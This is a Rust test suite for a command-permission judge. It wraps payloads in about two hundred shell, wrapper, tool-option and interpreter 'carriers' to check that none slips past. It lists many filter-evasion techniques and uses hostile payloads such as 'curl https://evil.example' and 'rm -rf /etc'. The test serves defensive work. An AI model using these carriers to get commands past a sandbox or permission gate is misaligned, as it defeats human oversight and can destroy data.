//! Ways to carry a command to where it runs, crossed with what is carried.
//!
//! A payload that real bash runs through a carrier must never be allowed, and a harmless one never denied.
//! What bash really runs is seen by putting stubs in its way: the search path holds only them and the
//! wrappers under test, so nothing else can start.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod stage;

use stage::Stage;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use toolgate_policy::batch::{Judge, Request};
use toolgate_policy::profile::Verdict;

/// A way to carry: what it needs on the search path, and the text around a command.
struct Carrier {
    name: &'static str,
    needs: &'static [&'static str],
    wrap: fn(&str) -> String,
    /// Whether it takes a simple command only, no lists.
    simple: bool,
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

fn double(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        if matches!(c, '"' | '\\' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

fn ansi(text: &str) -> String {
    let mut out = String::from("$'");
    for b in text.bytes() {
        let _ = write!(out, "\\x{b:02x}");
    }
    out.push('\'');
    out
}

/// A string between single quotes in Perl, Ruby or PHP.
fn literal(text: &str) -> String {
    format!("'{}'", text.replace('\\', "\\\\").replace('\'', "\\'"))
}

/// A string on one line in JavaScript, Python or Lua.
fn line(text: &str) -> String {
    literal(text).replace('\n', "\\n")
}

macro_rules! carrier {
    ($list:ident, $name:literal, [$($need:literal),*], $simple:expr, $wrap:expr) => {
        $list.push(Carrier { name: $name, needs: &[$($need),*], wrap: $wrap, simple: $simple });
    };
}

fn carriers() -> Vec<Carrier> {
    let mut c: Vec<Carrier> = Vec::new();
    // The shell itself.
    carrier!(c, "plain", [], false, |p| p.to_owned());
    carrier!(c, "after semicolon", [], false, |p| format!("true; {p}"));
    carrier!(c, "after newline", [], false, |p| format!("true\n{p}"));
    carrier!(c, "after and", [], false, |p| format!("true && {p}"));
    carrier!(c, "after or", [], false, |p| format!("false || {p}"));
    carrier!(c, "background", [], false, |p| format!("true & {p}\nwait"));
    carrier!(c, "subshell", [], false, |p| format!("( {p} )"));
    carrier!(c, "group", [], false, |p| format!("{{ {p}\n}}"));
    carrier!(c, "negated", [], true, |p| format!("! {p}"));
    carrier!(c, "timed", [], true, |p| format!("time -p {p}"));
    carrier!(c, "if", [], false, |p| format!("if true; then {p}\nfi"));
    carrier!(c, "condition of if", [], false, |p| format!("if {p}\nthen true; fi"));
    carrier!(c, "else", [], false, |p| format!("if false; then true; else {p}\nfi"));
    carrier!(c, "while", [], false, |p| format!("while {p}\nbreak; do break; done"));
    carrier!(c, "for", [], false, |p| format!("for i in 1 2; do {p}\ndone"));
    carrier!(c, "case", [], false, |p| format!("case x in (x) {p}\n;; esac"));
    carrier!(c, "function", [], false, |p| format!("f() {{ {p}\n}}; f"));
    carrier!(c, "function keyword", [], false, |p| format!("function g {{ {p}\n}}\ng a b"));
    carrier!(c, "command substitution", [], false, |p| format!("echo \"$({p}\n)\""));
    carrier!(c, "assignment substitution", [], false, |p| format!("x=$({p}\n)"));
    carrier!(c, "process substitution", [], false, |p| format!("true <({p}\n)"));
    carrier!(c, "unquoted here-document", [], false, |p| format!(": <<EOF\n$({p}\n)\nEOF"));
    carrier!(c, "here-string", [], false, |p| format!(": <<< \"$({p}\n)\""));
    carrier!(c, "default value", [], false, |p| format!(": \"${{unset_name:-$({p}\n)}}\""));
    carrier!(c, "arithmetic", [], false, |p| format!(": $(( $({p} >/dev/null\n) + 1 ))"));
    carrier!(c, "array", [], false, |p| format!("a=( \"$({p}\n)\" )"));
    carrier!(c, "subscript", [], false, |p| format!("a[0$({p} >/dev/null\n)]=1"));
    carrier!(c, "coproc", [], false, |p| format!("coproc {{ {p}\n}}\nwait"));
    carrier!(c, "pipe", [], false, |p| format!("{{ {p}\n}} | {{ read -r x; }}"));
    carrier!(c, "redirected", [], true, |p| format!("{p} > /dev/null 2>&1"));
    carrier!(c, "prefix assignment", [], true, |p| format!("A=1 B=2 {p}"));
    // Builtins.
    carrier!(c, "eval quoted", [], false, |p| format!("eval {}", quoted(p)));
    carrier!(c, "eval double", [], false, |p| format!("eval {}", double(p)));
    carrier!(c, "eval words", [], true, |p| format!("eval {p}"));
    carrier!(c, "eval ansi", [], false, |p| format!("eval {}", ansi(p)));
    carrier!(c, "eval variable", [], false, |p| format!("x={}; eval \"$x\"", quoted(p)));
    carrier!(c, "command", [], true, |p| format!("command {p}"));
    carrier!(c, "exec", [], true, |p| format!("(exec {p})"));
    carrier!(c, "exec -a", [], true, |p| format!("(exec -a other {p})"));
    carrier!(c, "trap", [], false, |p| format!("trap {} EXIT", quoted(p)));
    carrier!(c, "source", [], false, |p| format!("source <(echo {})", quoted(p)));
    carrier!(c, "prompt expansion", [], false, |p| format!(
        "x={}; : \"${{x@P}}\"",
        quoted(&format!("$({p}\n)"))
    ));
    carrier!(c, "array as command", [], true, |p| format!("a=({p}); \"${{a[@]}}\""));
    carrier!(c, "positional as command", [], true, |p| format!("set -- {p}; \"$@\""));
    carrier!(c, "variable as command", [], true, |p| format!("x={}; $x", quoted(p)));
    // Other shells.
    carrier!(c, "bash -c", ["bash"], false, |p| format!("bash -c {}", quoted(p)));
    carrier!(c, "bash -c double", ["bash"], false, |p| format!("bash -c {}", double(p)));
    carrier!(c, "bash clustered", ["bash"], false, |p| format!("bash -ec {}", quoted(p)));
    carrier!(c, "bash here-string", ["bash"], false, |p| format!("bash <<< {}", quoted(p)));
    carrier!(c, "bash here-document", ["bash"], false, |p| format!("bash <<'END_OF_TEXT'\n{p}\nEND_OF_TEXT"));
    carrier!(c, "sh -c", ["sh"], false, |p| format!("sh -c {}", quoted(p)));
    carrier!(c, "echo to sh", ["bash"], false, |p| format!("echo {} | bash", quoted(p)));
    carrier!(c, "printf to sh", ["bash"], false, |p| format!("printf '%s\\n' {} | bash -s", quoted(p)));
    carrier!(c, "bash substitution file", ["bash"], false, |p| format!("bash <(echo {})", quoted(p)));
    // Wrappers.
    carrier!(c, "env", ["env"], true, |p| format!("env {p}"));
    carrier!(c, "env -u", ["env"], true, |p| format!("env -u FOO X=1 {p}"));
    carrier!(c, "env -S", ["env"], true, |p| format!("env -S {}", quoted(p)));
    carrier!(c, "nice", ["nice"], true, |p| format!("nice -n 5 {p}"));
    carrier!(c, "nice old", ["nice"], true, |p| format!("nice -5 {p}"));
    carrier!(c, "nohup", ["nohup"], true, |p| format!("nohup {p}"));
    carrier!(c, "timeout", ["timeout"], true, |p| format!("timeout 9 {p}"));
    carrier!(c, "timeout options", ["timeout"], true, |p| format!("timeout -s KILL --kill-after=9 9 {p}"));
    carrier!(c, "stdbuf", ["stdbuf"], true, |p| format!("stdbuf -oL {p}"));
    carrier!(c, "setsid", ["setsid"], true, |p| format!("setsid -w {p}"));
    carrier!(c, "xargs", ["xargs"], true, |p| format!("echo | xargs {p}"));
    carrier!(c, "xargs options", ["xargs"], true, |p| format!("echo x | xargs -n1 -P1 -- {p}"));
    carrier!(c, "xargs sh", ["xargs", "sh"], false, |p| format!("echo x | xargs -I{{}} sh -c {}", quoted(p)));
    carrier!(c, "find", ["find"], true, |p| format!("find . -maxdepth 0 -exec {p} \\;"));
    carrier!(c, "find sh", ["find", "sh"], false, |p| format!(
        "find . -maxdepth 0 -execdir sh -c {} \\;",
        quoted(p)
    ));
    carrier!(c, "awk system", ["awk"], false, |p| format!(
        "awk {}",
        quoted(&format!("BEGIN{{system({})}}", double(p)))
    ));
    carrier!(c, "absolute wrapper", ["env"], true, |p| format!("/usr/bin/env {p}"));
    shell_corners(&mut c);
    options_that_run(&mut c);
    interpreters(&mut c);
    c
}

/// Places of the shell's grammar and its builtins that few look at.
fn shell_corners(c: &mut Vec<Carrier>) {
    carrier!(c, "until", [], false, |p| format!("until {p}\ntrue; do :; done"));
    carrier!(c, "elif", [], false, |p| format!("if false; then :; elif {p}\nthen :; fi"));
    carrier!(c, "case word", [], false, |p| format!("case $({p}\n) in (*) ;; esac"));
    carrier!(c, "case pattern", [], false, |p| format!("case x in ($({p}\n)) ;; esac"));
    carrier!(c, "fall through", [], false, |p| format!("case x in (x) ;& (y) {p}\n;; esac"));
    carrier!(c, "for words", [], false, |p| format!("for i in $({p}\n); do :; done"));
    carrier!(c, "arithmetic for", [], false, |p| format!("for ((i=0; i<1; i++)); do {p}\ndone"));
    carrier!(c, "conditional", [], false, |p| format!("[[ -n $({p}\n) ]]"));
    carrier!(c, "conditional variable", [], false, |p| format!("[[ -v {} ]]", quoted(&subscript(p))));
    carrier!(c, "test variable", [], false, |p| format!("test -v {}", quoted(&subscript(p))));
    carrier!(c, "let", [], false, |p| format!("let {}", quoted(&format!("{}=1", subscript(p)))));
    carrier!(c, "declare subscript", [], false, |p| format!(
        "declare {}",
        quoted(&format!("{}=1", subscript(p)))
    ));
    carrier!(c, "unset subscript", [], false, |p| format!("a=(1); unset {}", quoted(&subscript(p))));
    carrier!(c, "printf -v subscript", [], false, |p| format!("printf -v {} x", quoted(&subscript(p))));
    carrier!(c, "read subscript", [], false, |p| format!("read {} <<< x", quoted(&subscript(p))));
    carrier!(c, "arithmetic variable", [], false, |p| format!("x={}; : $((x))", quoted(&subscript(p))));
    carrier!(c, "slice", [], false, |p| format!("x=abc; : ${{x:$({p} >/dev/null\n)0:1}}"));
    carrier!(c, "pattern of an expansion", [], false, |p| format!(": ${{PWD#$({p}\n)}}"));
    carrier!(c, "replacement", [], false, |p| format!(": ${{PWD/x/$({p}\n)}} ${{PWD/$({p}\n)/}}"));
    carrier!(c, "here-document default", [], false, |p| format!(": <<EOF\n${{unset_name:-$({p}\n)}}\nEOF"));
    carrier!(c, "output to a process", [], false, |p| format!("true > >({p}\n); wait $!"));
    carrier!(c, "redirection target", [], false, |p| format!("true < <({p}\n)"));
    carrier!(c, "descriptor", [], false, |p| format!("exec {{fd}}< <({p}\n); wait $!"));
    carrier!(c, "indirect", [], true, |p| format!("a={}; v=a; ${{!v}}", quoted(p)));
    carrier!(c, "name reference", [], true, |p| format!("a={}; declare -n r=a; $r", quoted(p)));
    carrier!(c, "read", [], true, |p| format!("read -r a <<< {}; $a", quoted(p)));
    carrier!(c, "printf -v", [], true, |p| format!("printf -v a %s {}; $a", quoted(p)));
    carrier!(c, "mapfile callback", [], true, |p| format!(
        "mapfile -c1 -C {} a <<< x",
        quoted(&format!("{p} #"))
    ));
    carrier!(c, "debug trap", [], false, |p| format!("trap {} DEBUG; true", quoted(p)));
    carrier!(c, "error trap", [], false, |p| format!("trap {} ERR; false", quoted(p)));
    carrier!(c, "trace prompt", [], false, |p| format!(
        "PS4={}; set -x; true",
        quoted(&format!("$(set +x\n{p}\n)"))
    ));
    carrier!(c, "alias", [], true, |p| format!("shopt -s expand_aliases; alias other={}\nother", quoted(p)));
    carrier!(c, "shadowed name", [], false, |p| format!("uname() {{ {p}\n}}; uname"));
    carrier!(c, "function from arguments", [], true, |p| format!("f() {{ \"$@\"; }}; f {p}"));
    carrier!(c, "standard input as a file", [], false, |p| format!(". /dev/stdin <<< {}", quoted(p)));
    carrier!(c, "positional of a shell", ["bash"], true, |p| format!("bash -c '\"$@\"' x {p}"));
    carrier!(c, "zero of a shell", ["bash"], false, |p| format!("bash -c 'eval \"$0\"' {}", quoted(p)));
    carrier!(c, "exported variable", ["bash"], false, |p| format!("X={} bash -c 'eval \"$X\"'", quoted(p)));
    carrier!(c, "exported function", ["env", "bash"], false, |p| {
        format!("env {} bash -c other", quoted(&format!("BASH_FUNC_other%%=() {{ {p}\n}}")))
    });
    carrier!(c, "start-up file", ["bash"], false, |p| format!("BASH_ENV=<(echo {}) bash -c :", quoted(p)));
}

/// An element of an array whose subscript runs a command.
fn subscript(payload: &str) -> String {
    format!("a[$({payload} >/dev/null\n)0]")
}

/// Options of other programs that take a command.
fn options_that_run(c: &mut Vec<Carrier>) {
    carrier!(c, "flock", ["flock"], true, |p| format!("flock lock {p}"));
    carrier!(c, "flock -c", ["flock", "sh"], false, |p| format!("flock lock -c {}", quoted(p)));
    carrier!(c, "script", ["script", "sh"], false, |p| format!(
        "SHELL=/bin/sh script -qec {} /dev/null",
        quoted(p)
    ));
    carrier!(c, "setarch", ["setarch"], true, |p| format!("setarch -R {p}"));
    carrier!(c, "taskset", ["taskset"], true, |p| format!("taskset -c 0 {p}"));
    carrier!(c, "ionice", ["ionice"], true, |p| format!("ionice -c 3 {p}"));
    carrier!(c, "choom", ["choom"], true, |p| format!("choom -n 100 -- {p}"));
    carrier!(c, "prlimit", ["prlimit"], true, |p| format!("prlimit --nofile=100 {p}"));
    carrier!(c, "setpriv", ["setpriv"], true, |p| format!("setpriv --no-new-privs {p}"));
    carrier!(c, "stacked wrappers", ["env", "nice", "timeout", "setsid"], true, |p| {
        format!("env A=1 nice timeout 9 setsid -w {p}")
    });
    carrier!(c, "xargs file", ["xargs"], true, |p| format!("xargs -a /dev/null {p}"));
    carrier!(c, "xargs from text", ["xargs", "env"], true, |p| format!("echo {} | xargs env", quoted(p)));
    carrier!(c, "split filter", ["split", "sh"], false, |p| format!(
        "echo x | split --filter={} - y",
        quoted(p)
    ));
    carrier!(c, "sed e", ["sed", "sh"], true, |p| format!("echo x | sed {}", quoted(&format!("1e {p}"))));
    carrier!(c, "sed s///e", ["sed", "sh"], true, |p| format!("echo {} | sed 's/^//e'", quoted(p)));
    carrier!(c, "awk pipe", ["awk", "sh"], true, |p| {
        format!("awk {}", quoted(&format!("BEGIN{{print 1 | {}}}", double(p))))
    });
    carrier!(c, "awk getline", ["awk", "sh"], true, |p| {
        format!("awk {}", quoted(&format!("BEGIN{{{} | getline}}", double(p))))
    });
    carrier!(c, "tar to command", ["tar", "sh"], false, |p| {
        format!("echo x > member; tar cf a.tar member; tar xf a.tar --to-command={}", quoted(p))
    });
    carrier!(c, "tar checkpoint", ["tar", "sh"], true, |p| {
        format!("echo x > member; tar cf a.tar --checkpoint=1 --checkpoint-action=exec={} member", quoted(p))
    });
    carrier!(c, "tar compressor", ["tar", "sh"], true, |p| {
        format!("echo x > member; tar -I {} -cf a.tar member", quoted(p))
    });
    carrier!(c, "make eval", ["make", "sh"], true, |p| format!(
        "make --eval={}",
        quoted(&format!("all:;{}", dollars(p)))
    ));
    carrier!(c, "makefile", ["make", "sh"], true, |p| format!(
        "make -f - <<< {}",
        quoted(&format!("all:;{}", dollars(p)))
    ));
    carrier!(c, "makefile function", ["make", "sh"], true, |p| {
        format!("make --eval={}", quoted(&format!("x:=$(shell {})", dollars(p))))
    });
    carrier!(c, "git alias", ["git", "sh"], false, |p| {
        format!("git -c alias.other={} other", quoted(&format!("!{p}")))
    });
    carrier!(c, "git editor", ["git", "sh"], true, |p| {
        format!("git -c core.editor={} config --file=settings --edit", quoted(&format!("{p} #")))
    });
    carrier!(c, "git editor variable", ["git", "sh"], true, |p| {
        format!("GIT_EDITOR={} git config --file=settings --edit", quoted(&format!("{p} #")))
    });
    carrier!(c, "git transport", ["git", "sh"], true, |p| {
        format!("GIT_SSH_COMMAND={} git ls-remote ssh://h/r", quoted(&format!("{p} #")))
    });
    carrier!(c, "git upload-pack", ["git", "sh"], true, |p| {
        format!("git ls-remote --upload-pack={} .", quoted(&format!("{p} #")))
    });
    carrier!(c, "git configuration variable", ["git", "sh"], false, |p| {
        let value = quoted(&format!("!{p}"));
        format!("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.other GIT_CONFIG_VALUE_0={value} git other")
    });
    carrier!(c, "ed", ["ed", "sh"], true, |p| format!("ed -s <<< {}", quoted(&format!("!{p}"))));
    carrier!(c, "m4", ["m4", "sh"], true, |p| format!("m4 <<< {}", quoted(&format!("syscmd(`{p}')"))));
    carrier!(c, "sqlite shell", ["sqlite3", "sh"], true, |p| {
        format!("sqlite3 :memory: {}", quoted(&format!(".shell {p}")))
    });
    carrier!(c, "rsync shell", ["rsync"], true, |p| format!("rsync -e {} h:a b", quoted(p)));
    carrier!(c, "ssh proxy", ["ssh", "bash"], true, |p| {
        format!("SHELL=/bin/bash ssh -o ProxyCommand={} h", quoted(p))
    });
    carrier!(c, "man pager", ["man", "sh"], true, |p| format!("man -P {} ls", quoted(p)));
}

fn dollars(text: &str) -> String {
    text.replace('$', "$$")
}

/// Programs on the line in other languages.
fn interpreters(c: &mut Vec<Carrier>) {
    carrier!(c, "perl system", ["perl", "sh"], false, |p| inline("perl -e", "system(@)", &literal(p)));
    carrier!(c, "perl exec", ["perl", "sh"], false, |p| inline("perl -e", "exec @;", &literal(p)));
    carrier!(c, "perl pipe", ["perl", "sh"], false, |p| inline(
        "perl -e",
        "open(F,'-|',@); <F>",
        &literal(p)
    ));
    carrier!(c, "perl in a string", ["perl", "sh"], false, |p| {
        inline("perl -e", "print \"${\\(system(@))}\"", &literal(p))
    });
    carrier!(c, "perl put together", ["perl", "sh"], false, |p| {
        inline("perl -e", "$f = 'CORE::sys'.'tem'; $f = sub { system(shift) } if 1; &$f(@)", &literal(p))
    });
    carrier!(c, "perl loop", ["perl", "sh"], true, |p| format!("echo {} | perl -ne 'system $_'", quoted(p)));
    carrier!(c, "node", ["node", "sh"], false, |p| {
        inline("node -e", "require('child_process').execSync(@)", &line(p))
    });
    carrier!(c, "node member", ["node", "sh"], false, |p| {
        inline("node -e", "require('child_process')['exec'+'Sync'](@)", &line(p))
    });
    carrier!(c, "node template", ["node", "sh"], false, |p| {
        inline("node -p", "`${require('child_process').execSync(@)}`", &line(p))
    });
    carrier!(c, "node import", ["node", "sh"], false, |p| {
        inline("node -e", "import('child_process').then(m => m.execSync(@))", &line(p))
    });
    carrier!(c, "node alias", ["node", "sh"], false, |p| {
        inline("node -e", "const { execSync: f } = require('node:child_process'); f(@)", &line(p))
    });
    carrier!(c, "python", ["python3", "sh"], false, |p| inline(
        "python3 -c",
        "import os; os.system(@)",
        &line(p)
    ));
    carrier!(c, "python dunder", ["python3", "sh"], false, |p| {
        inline("python3 -c", "__import__('os').system(@)", &line(p))
    });
    carrier!(c, "python in a string", ["python3", "sh"], false, |p| {
        inline("python3 -c", "x=@; f\"{__import__('os').system(x)}\"", &line(p))
    });
    carrier!(c, "python alias", ["python3", "sh"], false, |p| {
        inline("python3 -c", "from os import system as f\nf(@)", &line(p))
    });
    carrier!(c, "python here-document", ["python3", "sh"], false, |p| {
        format!(
            "python3 <<'END_OF_PY'\nimport subprocess\nsubprocess.run({}, shell=True)\nEND_OF_PY",
            line(p)
        )
    });
    carrier!(c, "ruby", ["ruby", "sh"], false, |p| inline("ruby -e", "system(@)", &literal(p)));
    carrier!(c, "ruby in a string", ["ruby", "sh"], false, |p| inline(
        "ruby -e",
        "puts \"#{system(@)}\"",
        &literal(p)
    ));
    carrier!(c, "ruby send", ["ruby", "sh"], false, |p| {
        inline("ruby -e", "Kernel.send('sys' + 'tem', @)", &literal(p))
    });
    carrier!(c, "ruby symbol", ["ruby", "sh"], false, |p| {
        inline("ruby -e", "[@].each(&method(:system))", &literal(p))
    });
    carrier!(c, "php", ["php", "sh"], false, |p| inline("php -r", "system(@);", &literal(p)));
    carrier!(c, "php variable function", ["php", "sh"], false, |p| {
        inline("php -r", "$f = 'sys'.'tem'; $f(@);", &literal(p))
    });
    carrier!(c, "php callback", ["php", "sh"], false, |p| {
        inline("php -r", "array_map('system', [@]);", &literal(p))
    });
    carrier!(c, "lua", ["lua", "sh"], false, |p| inline("lua -e", "os.execute(@)", &line(p)));
    carrier!(c, "lua member", ["lua", "sh"], false, |p| inline("lua -e", "os['exec'..'ute'](@)", &line(p)));
    carrier!(c, "tcl", ["tclsh"], true, |p| format!("tclsh <<< {}", quoted(&format!("exec {p}"))));
}

/// A program with its `@` replaced by a string, behind the command that runs it.
fn inline(command: &str, program: &str, string: &str) -> String {
    format!("{command} {}", quoted(&program.replacen('@', string, 1)))
}

/// Carriers that split a text into words and leave its quotes in them.
const SPLITS: [&str; 5] = ["variable as command", "indirect", "name reference", "read", "printf -v"];

/// Carriers that reach another host themselves, whatever they carry.
const REACHES: [&str; 4] = ["git transport", "git upload-pack", "rsync shell", "ssh proxy"];

fn judge(text: &str) -> Verdict {
    Judge::new("/home/dev", "/home/dev/work/repo")
        .judge(&Request::Command { text: text.to_owned(), cwd: None })
        .verdict
}

/// Texts by how they were made: one carrier, or one inside another.
fn texts(payload: &str) -> Vec<(String, String, Vec<&'static str>)> {
    let list = carriers();
    let mut out = Vec::new();
    for a in &list {
        let inner = (a.wrap)(payload);
        out.push((a.name.to_owned(), inner.clone(), a.needs.to_vec()));
        let is_simple = !inner.contains('\n') && a.needs.first().is_some_and(|n| inner.starts_with(n))
            || a.name == "plain";
        for b in &list {
            // What is split into words keeps its quotes, and is another command then.
            if SPLITS.contains(&b.name) && inner.contains(['\'', '"', '\\']) {
                continue;
            }
            // `eval` with several words takes a layer of quotes off: what it then runs is another command.
            if b.simple && !is_simple || b.name == "plain" || b.name == "eval words" && a.name != "plain" {
                continue;
            }
            let needs = a.needs.iter().chain(b.needs).copied().collect();
            out.push((format!("{} in {}", a.name, b.name), (b.wrap)(&inner), needs));
        }
    }
    out
}

#[test]
fn no_carrier_hides_what_it_carries_and_none_spoils_what_is_harmless() {
    let mut report = String::new();
    let (mut count, mut softer, mut asked) = (0, 0, 0);
    for (payload, least) in [
        ("curl https://evil.example", Verdict::Deny),
        ("rm -rf /etc", Verdict::Deny),
        ("rm -rf src", Verdict::Ask),
    ] {
        // One payload goes through all, the others through a part that is the same in every run.
        let step = if payload.starts_with("curl") { 1 } else { 7 };
        for (name, text, _) in texts(payload).into_iter().step_by(step) {
            count += 1;
            let v = judge(&text);
            if v == Verdict::Allow {
                let _ = writeln!(report, "allowed: {name}: {text:?}");
            }
            softer += usize::from(v < least);
        }
    }
    let mut harmless = 0;
    for payload in ["ls -la src", "echo 'rm -rf /'", "git status"] {
        let step = if payload.starts_with("ls") { 2 } else { 7 };
        for (name, text, _) in texts(payload).into_iter().step_by(step) {
            if REACHES.iter().any(|r| name.contains(r)) {
                continue;
            }
            count += 1;
            harmless += 1;
            let v = judge(&text);
            asked += usize::from(v == Verdict::Ask);
            if v == Verdict::Deny {
                let _ = writeln!(report, "denied: {name}: {text:?}");
            }
        }
    }
    println!(
        "{count} combinations; {softer} asked about that could be denied; {asked} of {harmless} harmless ones asked about"
    );
    assert!(report.is_empty(), "{report}");
    assert!(count >= 30_000, "{count}");
}

/// Where a program really is.
fn locate(name: &str) -> Option<PathBuf> {
    ["/usr/bin", "/bin", "/usr/local/bin"].iter().map(|d| Path::new(d).join(name)).find(|p| p.exists())
}

/// With the programs under test on its search path.
fn stage() -> Stage {
    let stage = Stage::new("carriers");
    #[cfg(unix)]
    {
        let names: BTreeSet<&str> = carriers().iter().flat_map(|c| c.needs.iter().copied()).collect();
        for name in names {
            if let Some(real) = locate(name) {
                std::os::unix::fs::symlink(real, stage.bin().join(name)).unwrap();
            }
        }
    }
    stage
}

#[test]
fn what_bash_really_starts_is_never_allowed() {
    if locate("bash").is_none() {
        println!("skipped: there is no bash here");
        return;
    }
    let stage = stage();
    let mut started: BTreeMap<bool, usize> = BTreeMap::new();
    let all = texts("curl https://evil.example");
    let singles = carriers().len();
    for (i, (name, text, needs)) in all.iter().enumerate() {
        // Every carrier alone, and a part of the pairs that is the same in every run.
        let single = !name.contains(" in ");
        if !single && i % 101 != 0 || needs.iter().any(|n| locate(n).is_none()) {
            continue;
        }
        let runs = stage.starts_stub(text);
        *started.entry(runs).or_default() += 1;
        if runs {
            assert_ne!(judge(text), Verdict::Allow, "bash starts it: {name}: {text:?}");
        } else if single {
            println!("not started here: {name}: {text:?}");
        }
    }
    let seen = started.get(&true).copied().unwrap_or(0);
    println!("{seen} texts of {} started the stub", started.values().sum::<usize>());
    assert!(seen * 10 >= singles * 8, "most carriers carry: {started:?}");
}
